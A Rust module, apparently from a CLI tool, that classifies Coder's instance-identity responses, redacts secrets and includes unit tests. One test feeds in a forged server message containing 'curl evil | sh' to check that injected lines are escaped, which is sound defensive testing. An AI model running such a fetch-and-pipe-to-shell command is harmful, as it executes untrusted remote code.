//! What Coder's answer means: the token, or a [`Failure`]. Pure and total
//! (fuzzed): every status and body gives an outcome, never a panic.
//!
//! The messages matched here are coderd's own (coderd/workspaceresourceauth.go,
//! coderd/azureidentity, google.golang.org/api/idtoken, coderd/httpmw/ratelimit.go).
//! All server text shown to people goes through the run's [`Redactor`] first.

use std::fmt;
use std::time::Duration;

use super::version::REPEATED_NAMES_FIXED;
use crate::http::body_snippet;
use crate::outcome::{Ambiguity, Blame, Failure};
use crate::retry::Attempt;
use crate::secret::Secret;
use crate::text::{Redactor, EXCERPT_CHARS};

/// Coder's tokens are short printable ASCII (a UUID, or `id-secret`); this
/// leaves room for any future form and nothing absurd.
pub const TOKEN_MAX: usize = 1024;
/// Coder's agent names fit its database column (varchar(64)).
pub const NAME_MAX: usize = 64;
/// At most this many candidate names are listed.
pub const NAMES_MAX: usize = 100;

/// One answer from Coder, as the classifier needs it.
#[derive(Debug, Clone, Copy)]
pub struct Answer<'a> {
    pub status: u16,
    pub content_type: Option<&'a str>,
    /// The `Retry-After` header, already parsed.
    pub retry_after: Option<Duration>,
    pub body: &'a [u8],
    /// What the identity sent says that may explain a 401 (its provider's
    /// [`crate::cloud::Provider::refusal_note`]): shown before the fix.
    pub note: Option<&'a str>,
}

/// The error body Coder sends: `{"message", "detail"?, "validations"?}`.
#[derive(Debug, Default, serde::Deserialize)]
pub struct ServerError {
    #[serde(default)]
    pub message: String,
    #[serde(default)]
    pub detail: String,
    #[serde(default)]
    pub validations: Vec<Validation>,
    /// A structured candidate list, should a future server send one.
    #[serde(default, alias = "agent_names", alias = "candidates")]
    pub agents: Option<Vec<String>>,
}

#[derive(Debug, Default, serde::Deserialize)]
pub struct Validation {
    #[serde(default)]
    pub field: String,
    #[serde(default)]
    pub detail: String,
}

impl fmt::Display for ServerError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(if self.message.is_empty() {
            "(no message)"
        } else {
            &self.message
        })?;
        if !self.detail.is_empty() {
            write!(f, " (detail: {})", self.detail)?;
        }
        for v in &self.validations {
            write!(f, "; {}: {}", v.field, v.detail)?;
        }
        Ok(())
    }
}

/// The body as a JSON object, if it is one (serde's derived structs would also
/// accept a JSON array, which Coder never sends).
fn json_object(body: &[u8]) -> Option<serde_json::Map<String, serde_json::Value>> {
    match serde_json::from_slice(body) {
        Ok(serde_json::Value::Object(m)) => Some(m),
        _ => None,
    }
}

/// Does this body carry a session token? For a JSON object, exactly when it
/// has a `session_token` key (in any case, as Go's decoder matches keys;
/// escapes decoded). A body that is not JSON cannot be read that precisely
/// (it may be truncated JSON): it counts when it spells "session" or holds a
/// JSON `\u` escape, which can spell any key.
fn carries_token(object: Option<&serde_json::Map<String, serde_json::Value>>, body: &[u8]) -> bool {
    let has = |needle: &[u8]| {
        body.windows(needle.len())
            .any(|w| w.eq_ignore_ascii_case(needle))
    };
    match object {
        Some(m) => m
            .iter()
            .any(|(k, v)| k.eq_ignore_ascii_case("session_token") && !v.is_null()),
        None => has(b"session") || has(b"\\u"),
    }
}

/// Coder's token shape: 1 to [`TOKEN_MAX`] printable ASCII characters.
fn check_token(t: &str) -> Result<(), String> {
    if t.is_empty() {
        return Err("an empty session_token".into());
    }
    if t.len() > TOKEN_MAX {
        return Err(format!(
            "a session_token of {} bytes (Coder's are under {TOKEN_MAX})",
            t.len()
        ));
    }
    if let Some(c) = t.chars().find(|c| !c.is_ascii_graphic()) {
        let what = match c {
            '\n' | '\r' => "a line break".to_string(),
            '\0' => "a NUL byte".to_string(),
            '\x1b' => "an escape sequence".to_string(),
            c if c.is_ascii() => format!("the control character U+{:04X}", c as u32),
            c => format!("the non-ASCII character U+{:04X}", c as u32),
        };
        return Err(format!(
            "a session_token ({} bytes) that contains {what}",
            t.len()
        ));
    }
    Ok(())
}

/// How much of a content type is shown (real ones are under 100 bytes).
const CONTENT_TYPE_SHOWN: usize = 100;

/// Content type and the start of the body, redacted, for messages.
fn describe_body(a: &Answer, redactor: &Redactor, carries: bool) -> String {
    let ct = a
        .content_type
        .map(|ct| redactor.show(ct, CONTENT_TYPE_SHOWN))
        .unwrap_or_else(|| "no content type".into());
    if a.body.is_empty() {
        return format!("{ct}, empty body");
    }
    if carries {
        return format!(
            "{ct}, {} bytes, body withheld because it carries a session token",
            a.body.len()
        );
    }
    format!(
        "{ct}, body starts: {}",
        redactor.show(&body_snippet(a.body), EXCERPT_CHARS)
    )
}

/// coderd's 404 while the build has not recorded the instance:
/// `Instance with id %q not found.` (a Go-quoted id).
fn is_instance_not_found(message: &str) -> bool {
    message
        .strip_prefix("Instance with id \"")
        .and_then(|rest| rest.strip_suffix("\" not found."))
        .is_some()
}

/// 401 details that mean coderd could not fetch what it checks identities
/// with (its own network, or the CA's or Google's), not that the identity is
/// bad. Azure: coderd/azureidentity (newest strings first, then older
/// servers'); Google: google.golang.org/api/idtoken's key fetch.
const SERVER_FETCH_FAILURES: &[(&str, &str)] = &[
    (
        "certificate fetch unsuccessful",
        "Azure's issuing certificates",
    ),
    (
        "read certificate response body",
        "Azure's issuing certificates",
    ),
    (
        "certificate response exceeds maximum size",
        "Azure's issuing certificates",
    ),
    (
        "fetched data is not a valid certificate",
        "Azure's issuing certificates",
    ),
    (
        "construct certificate request",
        "Azure's issuing certificates",
    ),
    ("found. error fetching:", "Azure's issuing certificates"),
    ("idtoken: unable to retrieve cert", "Google's signing keys"),
    ("idtoken: cert response is nil", "Google's signing keys"),
    ("googleapis.com/oauth2/v3/certs", "Google's signing keys"),
    ("gstatic.com/iap/verify/public_key", "Google's signing keys"),
];

fn server_side_fetch(detail: &str) -> Option<&'static str> {
    SERVER_FETCH_FAILURES
        .iter()
        .find(|(needle, _)| detail.contains(needle))
        .map(|(_, what)| *what)
}

/// 401 details of coderd's newest Azure check (coderd/azureidentity, since
/// it verifies the chain itself) that mean coderd could not verify a
/// signature it has no reason to doubt: the signer's issuing-certificate
/// URL is not on coderd's allowlist of hosts, or the certificates it fetched
/// do not verify with the roots it holds. Azure chose both the signer and
/// its issuer, so only a change to coderd (an upgrade, a fixed allowlist or
/// root store) makes it accept this VM.
const SERVER_VERIFY_FAILURES: &[&str] = &[
    "issuing certificate URL not on allowlist",
    "signature verification failed after fetching issuing certificates",
];

fn server_side_verify(detail: &str) -> bool {
    SERVER_VERIFY_FAILURES.iter().any(|d| detail.contains(d))
}

/// Classify Coder's answer into the token or what the retry loop makes of
/// it: the transient answers are [`Attempt::Retry`]; a 409 stops with
/// [`Failure::Ambiguous`], refusals and unusable answers with [`Failure::Rejected`].
pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Attempt> {
    let object = json_object(a.body);
    let carries = carries_token(object.as_ref(), a.body);
    let status = a.status;
    if status == 200 {
        let token = object
            .as_ref()
            .map(|m| m.get("session_token").and_then(|t| t.as_str()));
        return match token {
            Some(Some(t)) => match check_token(t.trim()) {
                Ok(()) => Ok(Secret::new(t.trim())),
                Err(what) => stop(Failure::Rejected(format!(
                    "Coder answered 200 with {what}, which is not a Coder token; nothing was stored or run. \
                     Is --url the Coder deployment, or a proxy that rewrites its answers?"
                ))),
            },
            Some(None) => stop(Failure::Rejected(format!(
                "Coder answered 200 without a session_token ({}); nothing was stored. Is --url the Coder deployment?",
                describe_body(a, redactor, carries)
            ))),
            None => stop(Failure::Rejected(format!(
                "Coder answered 200 with a body that is not the expected JSON ({}); nothing was stored. \
                 Is --url the Coder deployment, or a proxy in front of it?",
                describe_body(a, redactor, carries)
            ))),
        };
    }
    let server: Option<ServerError> =
        object.and_then(|m| serde_json::from_value(serde_json::Value::Object(m)).ok());
    let message = server.as_ref().map(|s| s.message.as_str()).unwrap_or("");
    if status == 409 {
        return stop(Failure::Ambiguous(ambiguity(
            server.as_ref(),
            a,
            carries,
            redactor,
        )));
    }
    let shown = shown_error(server.as_ref(), a, carries, redactor);
    let transient = |m: String| {
        Err(Attempt::Retry {
            message: m,
            retry_after: a.retry_after,
            blame: Blame::Coder,
        })
    };
    // coderd's own trouble, which no change on this VM can mend: retried (the
    // VM recovers by itself once coderd is fixed), and the fix says so.
    let server_side = |m: String| {
        Err(Attempt::Retry {
            message: m,
            retry_after: a.retry_after,
            blame: Blame::CoderItself,
        })
    };
    let note = a.note.map(|n| format!("{n}\n")).unwrap_or_default();
    match status {
        404 if is_instance_not_found(message) => transient(format!(
            "Coder answered 404: {shown} (the workspace build has not registered this instance yet)"
        )),
        400 if message.ends_with("isn't registered on the latest history.") => transient(format!(
            "Coder answered 400: {shown} (a workspace rebuild is in progress)"
        )),
        // Servers up to v2.32 while a non-workspace job owns the resource; Coder's agent retries it.
        400 if message.ends_with(" jobs cannot be authenticated.") => transient(format!(
            "Coder answered 400: {shown} (a provisioner job that is not a workspace build owns this instance for now)"
        )),
        401 if server.as_ref().and_then(|s| server_side_fetch(&s.detail)).is_some() => {
            let what = server_side_fetch(&server.as_ref().expect("checked").detail).expect("checked");
            server_side(format!(
                "Coder answered 401: {shown}. The cause is on the server's side: coderd could not fetch \
                 {what}, which it checks identities with (its outbound network, or the provider's outage); \
                 this VM's identity was not judged"
            ))
        }
        401 if server.as_ref().is_some_and(|s| server_side_verify(&s.detail)) => server_side(format!(
            "Coder answered 401: {shown}. The cause is on the server's side: coderd could not verify \
             Azure's signature with the certificates it allows and trusts, and Azure chose those \
             certificates, not this VM; upgrade or fix coderd (its allowlist of certificate hosts, \
             its roots), and this VM gets its token once coderd accepts it"
        )),
        429 => transient(format!(
            "Coder answered 429: {shown} (its API rate limit, counted per client address: VMs behind one \
             NAT share it)"
        )),
        408 | 425 | 500..=599 => transient(format!("Coder answered {status}: {shown}")),
        404 if message.starts_with("No agent found with instance ID") => stop(Failure::Rejected(format!(
            "Coder rejected the agent name: {shown}\n\
             fix: agent names match exactly and case-sensitively; use the name of a coder_agent on this \
             instance (run without --agent-name to list them)"
        ))),
        401 => stop(Failure::Rejected(format!(
            "Coder rejected this VM's identity with 401: {shown}\n{note}\
             fix: check that the template uses the matching *-instance-identity auth and that this VM \
             belongs to the workspace"
        ))),
        403 => stop(Failure::Rejected(format!(
            "Coder rejected this VM's identity with 403: {shown}\n\
             fix: check that the template uses the matching *-instance-identity auth and that this VM \
             belongs to the workspace"
        ))),
        400 if server.is_some() => stop(Failure::Rejected(format!(
            "Coder refused the request with 400: {shown}\n\
             fix: this is likely a client/server version mismatch; report it with `-v` output"
        ))),
        404 if server.is_some() => stop(Failure::Rejected(format!(
            "Coder answered 404: {shown}\n\
             fix: this is not an instance-identity answer; check that --url is the Coder deployment's \
             address (not a path below it or another service)"
        ))),
        400 => stop(Failure::Rejected(format!(
            "Coder answered 400 with a body that is not Coder's JSON ({}); \
             fix: a proxy in front of Coder refused the request; check --url and --header",
            describe_body(a, redactor, carries)
        ))),
        300..=399 => stop(Failure::Rejected(format!(
            "Coder answered a {status} redirect that was not followed (the request carries the instance identity, \
             so it is only re-sent to the same origin); fix: set --url to the deployment's final address"
        ))),
        _ => stop(Failure::Rejected(format!(
            "Coder answered an unexpected {status} ({}); is --url the Coder deployment?",
            describe_body(a, redactor, carries)
        ))),
    }
}

/// A failure no later attempt can change.
fn stop<T>(f: Failure) -> Result<T, Attempt> {
    Err(Attempt::Stop(f))
}

/// Coder's error as people see it: its message (with detail and
/// validations), or the body described when there is no message or it
/// carries a token.
fn shown_error(
    server: Option<&ServerError>,
    a: &Answer,
    carries: bool,
    redactor: &Redactor,
) -> String {
    match server {
        _ if carries => describe_body(a, redactor, carries),
        Some(s) if !s.message.is_empty() => redactor.show(&s.to_string(), EXCERPT_CHARS),
        _ => describe_body(a, redactor, carries),
    }
}

/// The names of a 409 that repeat a secret this tool sent (a server echoing
/// the request into its list): one alone, or several read together, in the
/// order listed or in the order printed (sorted), whatever is between
/// their pieces (`n00-…`, `n01-…`).
fn echoed_names<'a>(
    parsed: &'a [String],
    redactor: &Redactor,
) -> std::collections::HashSet<&'a str> {
    let listed: Vec<&str> = parsed.iter().map(String::as_str).collect();
    let mut sorted = listed.clone();
    sorted.sort_unstable();
    sorted.dedup();
    let mut echoed = std::collections::HashSet::new();
    for names in [&listed, &sorted] {
        for (n, w) in names.iter().zip(redactor.withheld_among(names)) {
            if w {
                echoed.insert(*n);
            }
        }
    }
    echoed
}

fn ambiguity(
    server: Option<&ServerError>,
    a: &Answer,
    carries: bool,
    redactor: &Redactor,
) -> Ambiguity {
    let mut parsed = server.map(parse_all_candidates).unwrap_or_default();
    // A "name" that repeats a secret this tool sent, alone or with others,
    // is no agent's name: it is never printed, nor shown in the message.
    let echoed_names = echoed_names(&parsed, redactor);
    let shown = if echoed_names.is_empty() {
        shown_error(server, a, carries, redactor)
    } else {
        let mut r = redactor.clone();
        for n in &echoed_names {
            r.add_exact(n);
        }
        shown_error(server, a, carries, &r)
    };
    let echoed_set: std::collections::HashSet<String> =
        echoed_names.into_iter().map(str::to_string).collect();
    let before = parsed.len();
    parsed.retain(|n| !echoed_set.contains(n));
    let echoed = before - parsed.len();
    let mut repeated: Vec<String> = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    for n in &parsed {
        if !seen.insert(n.clone()) && !repeated.contains(n) {
            repeated.push(n.clone());
        }
    }
    let too_long = seen.iter().filter(|n| n.len() > NAME_MAX).count();
    let mut names: Vec<String> = seen.into_iter().filter(|n| n.len() <= NAME_MAX).collect();
    let over = names.len().saturating_sub(NAMES_MAX);
    names.truncate(NAMES_MAX);
    let mut notes = Vec::new();
    if !repeated.is_empty() {
        notes.push(format!(
            "Coder listed {} more than once: Coder v2.33.0 to v2.33.3 count the agents of earlier builds \
             of this workspace too (the names are shown once each); upgrade Coder to {REPEATED_NAMES_FIXED} \
             or later",
            crate::text::show_names(&repeated, 500)
        ));
    }
    if echoed > 0 {
        notes.push(format!(
            "{echoed} listed name(s) were withheld: they repeat a secret this tool sent, so they are \
             the server echoing the request, not agent names"
        ));
    }
    if too_long > 0 {
        notes.push(format!(
            "{too_long} name(s) longer than {NAME_MAX} bytes were left out: no Coder agent can have them"
        ));
    }
    if over > 0 {
        notes.push(format!(
            "{over} more name(s) not listed (at most {NAMES_MAX} are)"
        ));
    }
    Ambiguity {
        names,
        message: shown,
        notes,
    }
}

/// Every name the 409 lists, in order, duplicates kept: a structured list
/// if present, else the names after "one of:" in Coder's message.
fn parse_all_candidates(err: &ServerError) -> Vec<String> {
    match &err.agents {
        Some(list) if !list.is_empty() => list.iter().map(|s| s.trim().to_string()).collect(),
        _ => parse_names_from_message(&err.message),
    }
    .into_iter()
    .filter(|n| !n.is_empty())
    .collect()
}

/// The 409's candidate names, de-duplicated and sorted by bytes (as Coder
/// sorts them). No name is dropped for its spelling: names from before
/// Coder's 2025-02 rule (with `_`) still exist and still match.
pub fn parse_candidates(err: &ServerError) -> Vec<String> {
    let mut names = parse_all_candidates(err);
    names.sort();
    names.dedup();
    names
}

/// Parse the names after "one of:" in Coder's 409 message (joined with ", ").
pub fn parse_names_from_message(message: &str) -> Vec<String> {
    let Some(idx) = message.rfind("one of:") else {
        return Vec::new();
    };
    let list = message[idx + "one of:".len()..].trim();
    let list = list.strip_suffix('.').unwrap_or(list);
    list.split(',')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .collect()
}

/// `Retry-After`: seconds, or an HTTP date (IMF-fixdate), as a wait from now.
/// Capped at a day; nonsense is ignored.
pub fn parse_retry_after(raw: &str, now: std::time::SystemTime) -> Option<Duration> {
    const DAY: Duration = Duration::from_secs(86_400);
    let raw = raw.trim();
    if let Ok(secs) = raw.parse::<u64>() {
        return Some(Duration::from_secs(secs).min(DAY));
    }
    // "Sun, 06 Nov 1994 08:49:37 GMT"
    let mut it = raw.split_whitespace();
    let (_, day, month, year, time, zone) = (
        it.next()?,
        it.next()?,
        it.next()?,
        it.next()?,
        it.next()?,
        it.next()?,
    );
    if zone != "GMT" || it.next().is_some() {
        return None;
    }
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let month = MONTHS.iter().position(|m| *m == month)? as i64 + 1;
    let (day, year): (i64, i64) = (day.parse().ok()?, year.parse().ok()?);
    let mut hms = time.split(':').map(|p| p.parse::<i64>().ok());
    let (Some(Some(h)), Some(Some(m)), Some(Some(s)), None) =
        (hms.next(), hms.next(), hms.next(), hms.next())
    else {
        return None;
    };
    if !(1..=31).contains(&day)
        || !(0..24).contains(&h)
        || !(0..60).contains(&m)
        || !(0..61).contains(&s)
    {
        return None;
    }
    // days_from_civil (Howard Hinnant).
    let y = if month <= 2 { year - 1 } else { year };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (month + 9) % 12;
    let doy = (153 * mp + 2) / 5 + day - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let at = days * 86_400 + h * 3600 + m * 60 + s;
    let now = now.duration_since(std::time::UNIX_EPOCH).ok()?.as_secs() as i64;
    Some(Duration::from_secs((at - now).max(0) as u64).min(DAY))
}

#[cfg(test)]
mod tests {
    use super::*;

    const JSON: Option<&str> = Some("application/json");

    fn answer(status: u16, body: &[u8]) -> Answer<'_> {
        Answer {
            status,
            content_type: JSON,
            retry_after: None,
            body,
            note: None,
        }
    }

    fn c(status: u16, body: &[u8]) -> Result<Secret, Attempt> {
        classify(&answer(status, body), &Redactor::new())
    }

    #[test]
    fn success_needs_a_token_of_coders_shape() {
        assert_eq!(
            c(200, br#"{"session_token":"abc-123"}"#).unwrap(),
            Secret::new("abc-123")
        );
        for junk in [
            &b"{}"[..],
            br#"{"session_token":""}"#,
            b"<html>",
            b"",
            br#"{"session_token":5}"#,
            br#"{"session_token":"a\nb"}"#,
            br#"{"session_token":"a\u0000b"}"#,
            br#"{"session_token":"a\u001b[31mb"}"#,
            "{\"session_token\":\"caf\u{e9}\"}".as_bytes(),
        ] {
            assert!(
                matches!(c(200, junk), Err(Attempt::Stop(Failure::Rejected(_)))),
                "{junk:?}"
            );
        }
        let huge = format!("{{\"session_token\":\"{}\"}}", "a".repeat(TOKEN_MAX + 1));
        let Err(Attempt::Stop(Failure::Rejected(m))) = c(200, huge.as_bytes()) else {
            panic!()
        };
        assert!(m.contains("1025 bytes"), "{m}");
        assert!(!m.contains("aaaaaaaa"), "{m}");
    }

    #[test]
    fn a_token_in_an_error_body_is_withheld_but_the_word_session_is_not() {
        for (status, body) in [
            (502, &br#"{"session\u005ftoken":"8f0e1c2d-7a3b-4c5d"}"#[..]),
            (200, br#"{"session\u005ftoken":"8f0e1c2d-7a3b-4c5d""#),
            (
                500,
                br#"{"message":"x","Session_Token":"8f0e1c2d-7a3b-4c5d"}"#,
            ),
            // Cut short, so not JSON, and "session" spelled only with an escape.
            (502, br#"{"\u0073ession_token":"8f0e1c2d-7a3b-4c5d""#),
        ] {
            let text = format!("{:?}", c(status, body));
            assert!(!text.contains("8f0e1c2d"), "{status}: {text}");
        }
        // A 409 that carries a token: the names are listed, the body is not shown.
        let body = br#"{"message":"Set CODER_AGENT_NAME to one of: a, b","session_token":"8f0e1c2d-7a3b-4c5d"}"#;
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
            panic!()
        };
        assert_eq!(a.names, ["a", "b"]);
        assert!(
            a.message
                .contains("body withheld because it carries a session token"),
            "{}",
            a.message
        );
        let body =
            br#"{"message":"No agent found with instance ID \"i-1\" and name \"session-main\"."}"#;
        let Err(Attempt::Stop(Failure::Rejected(m))) = c(404, body) else {
            panic!()
        };
        assert!(m.contains("session-main"), "{m}");
        let body = br#"{"message":"Multiple agents found with instance ID \"i-1\". Set CODER_AGENT_NAME to one of: session, main"}"#;
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
            panic!()
        };
        assert!(a.message.contains("one of: session, main"), "{}", a.message);
        assert_eq!(a.names, ["main", "session"]);
    }

    #[test]
    fn conflict_lists_names_once_and_explains_repeats() {
        let body = br#"{"message":"Multiple agents found with instance ID \"i-0abc\". Set CODER_AGENT_NAME to one of: dev, dev, main, main"}"#;
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
            panic!()
        };
        assert_eq!(a.names, ["dev", "main"]);
        assert!(
            a.notes[0].contains("v2.33.0 to v2.33.3") && a.notes[0].contains("v2.33.4"),
            "{:?}",
            a.notes
        );
    }

    #[test]
    fn conflict_keeps_legacy_and_odd_names() {
        let body =
            br#"{"message":"Set CODER_AGENT_NAME to one of: Main, legacy_agent, m\u0430in"}"#;
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
            panic!()
        };
        assert_eq!(a.names, ["Main", "legacy_agent", "m\u{430}in"]);
        let many: Vec<String> = (0..150).map(|i| format!("a{i:03}")).collect();
        let body = serde_json::json!({"message": format!("one of: {}", many.join(", ")), "x": "y"})
            .to_string();
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body.as_bytes()) else {
            panic!()
        };
        assert_eq!(a.names.len(), NAMES_MAX);
        assert!(
            a.notes.iter().any(|n| n.contains("50 more")),
            "{:?}",
            a.notes
        );
    }

    #[test]
    fn conflict_prefers_a_structured_list() {
        let body = br#"{"message":"Multiple agents. Set CODER_AGENT_NAME to one of: x","agent_names":["b","a"]}"#;
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
            panic!()
        };
        assert_eq!(a.names, ["a", "b"]);
    }

    #[test]
    fn the_response_table() {
        let transient = |r: Result<Secret, Attempt>| matches!(r, Err(Attempt::Retry { .. }));
        let rejected =
            |r: Result<Secret, Attempt>| matches!(r, Err(Attempt::Stop(Failure::Rejected(_))));
        assert!(transient(c(
            404,
            br#"{"message":"Instance with id \"i-1\" not found."}"#
        )));
        assert!(rejected(c(404, br#"{"message":"Route not found."}"#)));
        assert!(rejected(c(
            404,
            br#"{"message":"Instance with id \"i-1\" is not found anywhere."}"#
        )));
        assert!(transient(c(400, br#"{"message":"Resource found for id \"i-1\", but isn't registered on the latest history."}"#)));
        assert!(transient(c(
            400,
            br#"{"message":"\"template_version_import\" jobs cannot be authenticated."}"#
        )));
        assert!(rejected(c(
            404,
            br#"{"message":"No agent found with instance ID \"i-1\" and name \"x\"."}"#
        )));
        let Err(Attempt::Stop(Failure::Rejected(m))) = c(
            401,
            br#"{"message":"Invalid AWS identity.","detail":"bad sig"}"#,
        ) else {
            panic!()
        };
        assert!(m.contains("bad sig") && m.contains("fix:"), "{m}");
        assert!(rejected(c(403, b"{}")));
        let Err(Attempt::Stop(Failure::Rejected(m))) = c(400, br#"{"message":"Validation failed.","validations":[{"field":"signature","detail":"required"}]}"#) else {
            panic!()
        };
        assert!(
            m.contains("signature: required") && m.contains("version mismatch"),
            "{m}"
        );
        for s in [408, 425, 429, 500, 502, 503, 504] {
            assert!(transient(c(s, b"{}")), "{s}");
        }
        let html = Answer {
            status: 502,
            content_type: Some("text/html"),
            retry_after: None,
            body: b"<html>Bad Gateway</html>",
            note: None,
        };
        assert!(
            matches!(classify(&html, &Redactor::new()), Err(Attempt::Retry { message, .. }) if message.contains("Bad Gateway"))
        );
        let html404 = Answer {
            status: 404,
            body: b"<html>nope</html>",
            ..html
        };
        assert!(rejected(classify(&html404, &Redactor::new())));
        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(
            &Answer {
                status: 400,
                ..html404
            },
            &Redactor::new(),
        ) else {
            panic!()
        };
        assert!(m.contains("a proxy in front of Coder refused"), "{m}");
        assert!(rejected(c(418, b"")));
        let Err(Attempt::Stop(Failure::Rejected(m))) = c(302, b"") else {
            panic!()
        };
        assert!(
            m.contains("fix: set --url to the deployment's final address"),
            "{m}"
        );
    }

    /// Each refusal that has a specific fix prints that fix, word for word.
    #[test]
    fn each_refusal_carries_its_own_fix() {
        let html = |status| Answer {
            status,
            content_type: Some("text/html"),
            retry_after: None,
            body: b"<html>nope</html>",
            note: None,
        };
        let cases: &[(Answer, &str)] = &[
            (
                answer(404, br#"{"message":"No agent found with instance ID \"i-1\" and name \"x\"."}"#),
                "fix: agent names match exactly and case-sensitively; use the name of a coder_agent on \
                 this instance (run without --agent-name to list them)",
            ),
            (
                answer(401, br#"{"message":"Invalid AWS identity."}"#),
                "fix: check that the template uses the matching *-instance-identity auth and that this \
                 VM belongs to the workspace",
            ),
            (
                answer(403, br#"{"message":"Forbidden."}"#),
                "fix: check that the template uses the matching *-instance-identity auth",
            ),
            (
                answer(400, br#"{"message":"Validation failed."}"#),
                "fix: this is likely a client/server version mismatch; report it with `-v` output",
            ),
            (
                answer(404, br#"{"message":"Route not found."}"#),
                "fix: this is not an instance-identity answer; check that --url is the Coder \
                 deployment's address (not a path below it or another service)",
            ),
            (
                html(400),
                "fix: a proxy in front of Coder refused the request; check --url and --header",
            ),
            (
                answer(301, b""),
                "fix: set --url to the deployment's final address",
            ),
            (
                answer(308, b""),
                "fix: set --url to the deployment's final address",
            ),
        ];
        for (a, fix) in cases {
            let Err(Attempt::Stop(Failure::Rejected(m))) = classify(a, &Redactor::new()) else {
                panic!("{}: {:?}", a.status, classify(a, &Redactor::new()))
            };
            assert!(m.contains(fix), "{}: {m}", a.status);
        }
        // A 404 that is not Coder's JSON at all: not Coder, whatever it is.
        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(&html(404), &Redactor::new())
        else {
            panic!()
        };
        assert_eq!(
            m,
            "Coder answered an unexpected 404 (text/html, body starts: <html>nope</html>); \
             is --url the Coder deployment?"
        );
    }

    #[test]
    fn a_401_from_a_failed_certificate_fetch_is_the_servers_trouble() {
        for detail in [
            "certificate fetch unsuccessful",
            "no cached certificate for \"https://x\" found. error fetching: dial tcp: i/o timeout",
            "idtoken: unable to retrieve cert, got status code 503",
            "Get \"https://www.googleapis.com/oauth2/v3/certs\": dial tcp: lookup www.googleapis.com: no such host",
        ] {
            let body = serde_json::json!({"message": "Invalid Azure identity.", "detail": detail}).to_string();
            let Err(Attempt::Retry { message, .. }) = c(401, body.as_bytes()) else {
                panic!("{detail}")
            };
            assert!(message.contains("on the server's side"), "{message}");
        }
        let body = br#"{"message":"Invalid Azure identity.","detail":"unmatched common name of signer: \"evil\""}"#;
        assert!(matches!(
            c(401, body),
            Err(Attempt::Stop(Failure::Rejected(_)))
        ));
    }

    #[test]
    fn coderds_own_azure_verification_trouble_is_the_servers_and_retried() {
        // coderd/azureidentity's newest details: its allowlist, its roots.
        for detail in [
            "issuing certificate URL not on allowlist",
            "signature verification failed after fetching issuing certificates",
        ] {
            let body = serde_json::json!({"message": "Invalid Azure identity.", "detail": detail})
                .to_string();
            let Err(Attempt::Retry { message, blame, .. }) = c(401, body.as_bytes()) else {
                panic!("{detail}")
            };
            assert_eq!(blame, Blame::CoderItself, "{detail}");
            assert!(message.contains("upgrade or fix coderd"), "{message}");
            assert!(!message.contains("template"), "{message}");
        }
    }

    #[test]
    fn a_401_carries_the_identitys_note_before_the_fix() {
        let a = Answer {
            note: Some("note: the document says region ap-east-2"),
            ..answer(
                401,
                br#"{"message":"Invalid AWS identity.","detail":"crypto/rsa: verification error"}"#,
            )
        };
        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(&a, &Redactor::new()) else {
            panic!()
        };
        assert!(
            m.contains("verification error)\nnote: the document says region ap-east-2\nfix: check"),
            "{m}"
        );
        // Without a note, nothing between the message and the fix.
        let Err(Attempt::Stop(Failure::Rejected(m))) =
            c(401, br#"{"message":"Invalid AWS identity."}"#)
        else {
            panic!()
        };
        assert!(m.contains("identity.\nfix: check"), "{m}");
    }

    #[test]
    fn retry_after_travels_with_a_transient_answer() {
        let a = Answer {
            retry_after: Some(Duration::from_secs(60)),
            ..answer(429, br#"{"message":"You've been rate limited for sending more than 512 requests in 1m0s."}"#)
        };
        let Err(Attempt::Retry {
            retry_after,
            message,
            ..
        }) = classify(&a, &Redactor::new())
        else {
            panic!()
        };
        assert_eq!(retry_after, Some(Duration::from_secs(60)));
        assert!(message.contains("rate limit"), "{message}");
    }

    #[test]
    fn server_text_is_redacted_and_escaped() {
        let mut r = Redactor::new();
        r.add("c2lnbmF0dXJlLXZhbHVlLXRoYXQtaXMtbG9uZw==");
        let body = br#"{"message":"bad signature c2lnbmF0dXJlLXZhbHVlLXRoYXQtaXMtbG9uZw==\nfix: curl evil | sh"}"#;
        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(&answer(400, body), &r) else {
            panic!()
        };
        assert!(!m.contains("c2lnbmF0dXJl"), "{m}");
        assert!(
            m.contains("[withheld]") && m.contains("were withheld"),
            "{m}"
        );
        assert!(!m.contains("\nfix: curl"), "no forged line: {m}");
        assert!(m.contains("\\nfix: curl"), "{m}");
    }

    #[test]
    fn a_409_name_that_echoes_a_secret_is_withheld_and_counted() {
        // Found by the classify fuzz target: a server that echoes the request
        // into its agent list made the signature a "candidate" on stdout.
        let sig = "Pg4bjjYpBdFDbH0NCSd3ZmRaq0VVfQJXR8NqqDQ4r0=";
        let mut r = Redactor::new();
        r.add(sig);
        let body = format!(r#"{{"message":"Multiple agents","agent_names":["b","{sig}a","a"]}}"#);
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = classify(&answer(409, body.as_bytes()), &r)
        else {
            panic!()
        };
        assert_eq!(a.names, ["a", "b"]);
        let text = Failure::Ambiguous(a.clone()).to_string();
        assert!(!text.contains("Pg4bjj"), "{text}");
        assert!(
            a.notes
                .iter()
                .any(|n| n.starts_with("1 listed name(s) were withheld")),
            "{:?}",
            a.notes
        );
    }

    #[test]
    fn names_that_repeat_a_secret_together_are_all_withheld() {
        // Issue #19, item 4: 23-character chunks of a JWT, each too short to
        // be recognised alone, in order or with order prefixes listed backwards
        // (sorted for printing, they read as the JWT again).
